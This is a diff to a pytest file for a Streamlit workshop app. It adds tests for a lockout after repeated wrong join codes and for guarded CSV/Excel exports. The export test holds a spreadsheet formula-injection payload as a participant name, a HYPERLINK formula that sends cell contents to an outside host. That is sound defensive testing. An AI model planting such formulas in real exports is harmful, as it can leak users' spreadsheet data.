@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import pytest
 from streamlit.testing.v1 import AppTest
 
 from maturity.workshop import WorkshopService
@@ -170,3 +171,58 @@ def test_a_database_failure_on_submit_is_a_message_and_stores_nothing(root, stor
     assert any("保存失败" in e.value for e in at.error)
     monkeypatch.undo()
     assert svc.answers_of(person.token) == {}
+
+
+def _failures(store) -> int:
+    from sqlalchemy import func, select
+
+    from maturity import schema
+
+    with store.reading() as conn:
+        return int(conn.scalar(select(func.count()).select_from(schema.lookup_failures)) or 0)
+
+
+@pytest.mark.parametrize(("lang", "wrong", "blocked", "join"), [
+    ("zh", "没有加入码为 ZZZZZZ 的研讨会", "加入码输错次数过多", "加入"),
+    ("en", "There is no workshop with the code ZZZZZZ", "Too many wrong join codes", "Join"),
+])
+def test_guessing_join_codes_is_stopped_with_a_message(root, store, tiny, lang, wrong, blocked, join):
+    _, ws, _ = session(store, tiny)
+    at = open_with(root, "workshop", lang=lang, w="ZZZZZZ")  # a wrong ?w= link is a wrong code
+    assert not at.exception, at.exception
+    assert any(wrong in e.value for e in at.error), [e.value for e in at.error]
+    at.run()  # a rerun of the same link does not count again
+    assert _failures(store) == 2  # one row for the session, one for the address
+    for n in range(5):
+        at.text_input(key="wsj_code").input(f"ZZZZZ{n + 2}")
+        at = click(at, join)
+        assert any("ZZZZZ" in e.value for e in at.error) and not any(blocked in e.value for e in at.error)
+    at.text_input(key="wsj_code").input(ws.code)  # the right code now: refused too, for a while
+    at = click(at, join)
+    assert not at.exception, at.exception
+    assert any(blocked in e.value for e in at.error), [e.value for e in at.error]
+    assert "p" not in at.query_params
+    fresh = open_with(root, "workshop", lang=lang)  # another browser session at the same address may
+    fresh.text_input(key="wsj_code").input(ws.code)
+    fresh = click(fresh, join)
+    assert not fresh.error and "p" in fresh.query_params
+
+
+def test_host_page_offers_guarded_exports_of_hostile_names(root, store, tiny):
+    import csv
+    import io
+
+    from maturity import tables
+
+    svc, ws, key = session(store, tiny, named=True)
+    hostile = '=HYPERLINK("http://x/?"&A1,"open")'
+    person = svc.join(ws.code, hostile)
+    svc.submit(person.token, {"leading.party": 2})
+    svc.close(ws.code, key)
+    at = open_with(root, "workshop_host", w=ws.code, k=key)
+    assert not at.exception, at.exception
+    buttons = {b.proto.label for b in at.get("download_button")}
+    assert {"下载原始答案（CSV）", "下载原始答案（Excel）"} <= buttons, buttons
+    frame = tables.workshop_answers_frame(tiny.model, svc.export_rows(ws.code, key), "zh")
+    rows = list(csv.reader(io.StringIO(tables.csv_bytes(frame).decode("utf-8-sig"), newline="")))
+    assert rows[1][0] == "'" + hostile and rows[1][1] == "引领力" and rows[1][4] == "2"
